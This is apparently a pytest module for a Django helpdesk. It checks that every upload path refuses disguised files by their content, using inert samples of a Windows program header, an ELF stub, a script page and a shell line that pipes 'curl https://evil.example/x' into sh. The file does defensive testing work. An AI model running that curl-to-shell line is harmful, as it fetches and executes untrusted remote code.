"""Every way a file comes in checks its content, not only its name, through one function
(helpdesk.uploads.check_upload): a Windows program renamed "invoice.pdf" once passed,
since only the name was read.

Each path is walked with a real PDF (taken), a Windows program named "invoice.pdf", a
text named "scan.pdf", and a program and a web page under harmless names (each refused,
and the sender told why): the help center's new request and reply, the agent's reply
and internal note, mail through the gateway and through `ingest_mail`, suspended mail an
admin makes a ticket, and a knowledge-base picture. The REST API takes no files today;
`test_every_file_input_is_walked` finds every file field of every form, serializer and
admin of our apps (and every place that stores an attachment), so a new one fails until
it is walked here.
"""

from __future__ import annotations

import importlib
import mailbox
import pkgutil
import re
from dataclasses import dataclass
from pathlib import Path

import pytest
from django import forms
from django.conf import settings
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from rest_framework import serializers

from helpdesk.uploads import check_upload, sniff
from knowledge.models import ArticleImage
from tests.tickets.factories import make_ticket
from tests.tickets.test_inbound import _post, raw_mail
from tickets.models import Attachment, Category, SuspendedEmail, Ticket

OUR_APPS = ("helpdesk", "plans", "tickets", "sla", "knowledge", "feedback", "success", "phone")

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)
# The start of a Windows program: the MZ header and its DOS stub.
PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 400
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
PAGE = b"<!DOCTYPE html><html><body><script>steal()</script></body></html>"

REFUSED = [
    ("invoice.pdf", PROGRAM, "application/pdf", "a type of file we do not accept"),
    ("scan.pdf", b"just some text, not a PDF at all", "application/pdf", "does not hold the PDF"),
    ("notes.txt", ELF, "text/plain", "a type of file we do not accept"),
    ("readme.txt", SCRIPT, "text/plain", "a type of file we do not accept"),
    ("report.txt", PAGE, "text/plain", "a type of file we do not accept"),
    ("screen.png", PROGRAM, "image/png", "a type of file we do not accept"),
]


@dataclass
class Sent:
    shown: str  # what the sender was shown or sent back (a page, a ticket's note)


def _ticket(desk):
    return make_ticket(desk, subject="Where is my invoice?")


def _via_help_center_new(desk, name, content, content_type) -> Sent:
    with desk.scope():
        billing = Category.objects.get(name="Billing")
    response = desk.client(desk.customer).post(
        "/tickets/new/",
        {
            "subject": "My invoice",
            "category": billing.pk,
            "body": "Attached.",
            "priority": 3,
            "attachments": [SimpleUploadedFile(name, content, content_type)],
        },
        follow=True,
    )
    return Sent(response.content.decode())


def _via_help_center_reply(desk, name, content, content_type) -> Sent:
    ticket = _ticket(desk)
    response = desk.client(desk.customer).post(
        f"/tickets/{ticket.number}/",
        {"body": "Attached.", "attachments": [SimpleUploadedFile(name, content, content_type)]},
        follow=True,
    )
    return Sent(response.content.decode())


def _via_agent(internal: bool):
    def send(desk, name, content, content_type) -> Sent:
        ticket = _ticket(desk)
        data = {
            "body": "Attached.",
            "attachments": [SimpleUploadedFile(name, content, content_type)],
        }
        if internal:
            data["is_internal"] = "on"
        response = desk.client(desk.agent).post(
            f"/agent/tickets/{ticket.number}/respond/", data, follow=True
        )
        return Sent(response.content.decode())

    send.__name__ = "_via_agent_note" if internal else "_via_agent_reply"
    return send


def _mail(desk, name, content, content_type) -> bytes:
    return raw_mail(
        desk.customer.email,
        "My invoice is attached.",
        subject=f"Invoice {name}",
        attachments=[(name, content, content_type)],
    )


def _ticket_body(desk, subject) -> str:
    with desk.scope():
        return Ticket.objects.get(subject=subject).messages.get().body


def _via_mail_gateway(desk, name, content, content_type) -> Sent:
    assert _post(desk, _mail(desk, name, content, content_type)).json()["action"] == "created"
    return Sent(_ticket_body(desk, f"Invoice {name}"))


def _via_ingest_mail(desk, name, content, content_type, tmp_path: Path) -> Sent:
    box = mailbox.Maildir(tmp_path / "Maildir")
    box.add(_mail(desk, name, content, content_type))
    call_command("ingest_mail", tenant=desk.tenant.slug, maildir=str(tmp_path / "Maildir"))
    return Sent(_ticket_body(desk, f"Invoice {name}"))


def _via_suspended_mail(desk, name, content, content_type) -> Sent:
    stranger = raw_mail(
        "someone@nowhere.example",
        "Forwarded for Carol.",
        subject=f"Invoice {name}",
        attachments=[(name, content, content_type)],
    )
    assert _post(desk, stranger).json()["action"] == "suspended"
    with desk.scope():
        suspended = SuspendedEmail.objects.get()
    desk.client(desk.admin).post(
        reverse("admin:tickets_suspendedemail_to_ticket", args=[suspended.pk]),
        {"requester": desk.customer.email, "subject": f"Invoice {name}"},
    )
    return Sent(_ticket_body(desk, f"Invoice {name}"))


PATHS = [
    _via_help_center_new,
    _via_help_center_reply,
    _via_agent(internal=False),
    _via_agent(internal=True),
    _via_mail_gateway,
    _via_ingest_mail,
    _via_suspended_mail,
]
IDS = [path.__name__.removeprefix("_via_") for path in PATHS]


def _send(path, desk, tmp_path, *args) -> Sent:
    if path is _via_ingest_mail:
        return path(desk, *args, tmp_path)
    return path(desk, *args)


def _stored(desk, name) -> list[Attachment]:
    with desk.scope():
        return list(Attachment.objects.filter(name=name))


@pytest.mark.parametrize("path", PATHS, ids=IDS)
def test_a_real_pdf_is_taken_on_every_path(acme, tmp_path, path):
    _send(path, acme, tmp_path, "invoice.pdf", PDF, "application/pdf")
    [attachment] = _stored(acme, "invoice.pdf")
    assert attachment.content_type == "application/pdf"


@pytest.mark.parametrize("path", PATHS, ids=IDS)
@pytest.mark.parametrize(
    ("name", "content", "content_type", "told"), REFUSED, ids=[r[0] for r in REFUSED]
)
def test_what_its_content_gives_away_is_refused_on_every_path(
    acme, tmp_path, path, name, content, content_type, told
):
    sent = _send(path, acme, tmp_path, name, content, content_type)
    assert _stored(acme, name) == []
    assert f"“{name}” " in sent.shown and told in sent.shown


def _upload_picture(desk, name, content, content_type):
    return desk.client(desk.admin).post(
        "/admin/knowledge/articleimage/add/",
        {"name": "Chart", "file": SimpleUploadedFile(name, content, content_type)},
    )


def test_a_knowledge_base_picture_is_checked_by_its_content_too(acme):
    response = _upload_picture(acme, "chart.png", PROGRAM, "image/png")
    assert "This file is not the picture its name says." in response.content.decode()
    response = _upload_picture(acme, "chart.png", PDF, "image/png")
    assert "This file is not the picture its name says." in response.content.decode()
    response = _upload_picture(acme, "chart.pdf", PDF, "application/pdf")
    assert "Upload a PNG, JPEG, GIF or WebP picture." in response.content.decode()
    with acme.scope():
        assert not ArticleImage.objects.exists()
    assert _upload_picture(acme, "chart.png", PNG, "image/png").status_code == 302
    with acme.scope():
        assert ArticleImage.objects.get().content_type == "image/png"


# -- every file input of the project is one of the above ------------------------------------

# Each file field found, and the walk above that covers it.
WALKED = {
    "tickets.forms.TicketCreateForm.attachments": "help_center_new",
    "tickets.forms.ReplyForm.attachments": "help_center_reply",
    "tickets.forms.AgentReplyForm.attachments": "agent_reply, agent_note",
    "knowledge.admin.ArticleImageForm.file": "test_a_knowledge_base_picture_...",
    "knowledge.ArticleImage.file (admin)": "test_a_knowledge_base_picture_...",
    "tickets.Attachment.file (stored by tickets.services._attach)": "every path",
}


def _import_our_modules() -> None:
    for app in OUR_APPS:
        package = importlib.import_module(app)
        for module in pkgutil.walk_packages(package.__path__, f"{app}."):
            if ".migrations" not in module.name and ".management" not in module.name:
                importlib.import_module(module.name)


def _subclasses(base) -> list[type]:
    found, todo = [], [base]
    while todo:
        for subclass in todo.pop().__subclasses__():
            todo.append(subclass)
            if subclass.__module__.split(".")[0] in OUR_APPS:
                found.append(subclass)
    return found


def _file_inputs() -> set[str]:
    _import_our_modules()
    found = set()
    for form in _subclasses(forms.BaseForm):
        if "<locals>" in form.__qualname__:
            continue  # a form built per request from one found here (the admin's)
        for name, field in form.base_fields.items():
            if isinstance(field, forms.FileField):
                found.add(f"{form.__module__}.{form.__qualname__}.{name}")
    for serializer in _subclasses(serializers.BaseSerializer):
        declared = getattr(serializer, "_declared_fields", {})
        for name, field in declared.items():
            if isinstance(field, serializers.FileField):
                found.add(f"{serializer.__module__}.{serializer.__qualname__}.{name}")
    for model, model_admin in admin.site._registry.items():
        for field in model._meta.get_fields():
            if isinstance(field, models.FileField) and field.editable:
                excluded = set(model_admin.readonly_fields) | set(model_admin.exclude or ())
                if field.name not in excluded:
                    found.add(f"{model._meta.app_label}.{model.__name__}.{field.name} (admin)")
    return found


def test_every_file_input_is_walked():
    unwalked = {name for name in _file_inputs() if name not in WALKED}
    assert unwalked == set(), "walk these upload paths in this module"


def test_attachments_are_stored_in_one_place_only():
    """Only tickets.services._attach makes Attachment rows and saves their files, after
    check_upload: any other place would be an upload path that skips the check."""
    makers = []
    for app in OUR_APPS:
        for source in Path(settings.BASE_DIR, app).rglob("*.py"):
            if "migrations" in source.parts:
                continue
            text = source.read_text()
            if re.search(r"(?<!class )\bAttachment\(|Attachment\.objects\.(bulk_)?create", text):
                makers.append(str(source.relative_to(settings.BASE_DIR)))
    assert makers == ["tickets/services.py"]
    services = Path(settings.BASE_DIR, "tickets/services.py").read_text()
    attach = services[services.index("def _attach(") : services.index("def _add_message(")]
    assert attach.index("check_upload(") < attach.index("Attachment(")


def test_the_content_is_read_from_the_start_whatever_was_read_before(acme):
    upload = SimpleUploadedFile("invoice.pdf", PROGRAM, "application/pdf")
    upload.read(10)  # a caller that already looked at it
    with pytest.raises(Exception, match="do not accept"):
        check_upload(name="invoice.pdf", size=len(PROGRAM), declared_type=None, content=upload)
    assert upload.tell() == 10  # and left where it was


@pytest.mark.parametrize(
    ("content", "program", "page"),
    [
        (PROGRAM, True, False),
        (ELF, True, False),
        (SCRIPT, True, False),
        (PAGE, False, True),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", False, True),
        (b"<!-- a Markdown file's comment -->\n# Notes", False, False),
        (PDF, False, False),
        (PNG, False, False),
        (b"PK\x03\x04" + b"\x00" * 60, False, False),  # a .docx and a .jar alike: by name
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, False, False),  # .doc or .msi
        (b"a,b\n1,2\n", False, False),
    ],
)
def test_what_the_bytes_say(content, program, page):
    found = sniff(content)
    assert (found.is_program, found.is_page) == (program, page)


def test_the_sender_is_told_in_their_language(acme):
    ticket = _ticket(acme)
    response = acme.client(acme.customer).post(
        f"/tickets/{ticket.number}/",
        {"body": "附件", "attachments": [SimpleUploadedFile("scan.pdf", b"text", "text/plain")]},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    assert "“scan.pdf”的内容并不是其名称所示的 PDF 文件。" in response.content.decode()
